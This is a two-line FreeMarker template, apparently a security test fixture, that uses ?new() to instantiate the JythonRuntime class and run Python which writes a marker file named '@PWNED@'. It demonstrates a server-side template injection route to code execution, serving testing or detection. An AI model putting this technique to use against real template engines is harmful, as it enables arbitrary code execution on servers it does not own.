<#-- Runs Python through JythonRuntime, a TemplateTransformModel. -->
<#assign py = "freemarker.template.utility.JythonRuntime"?new()><@py>open("@PWNED@", "w")</@py>
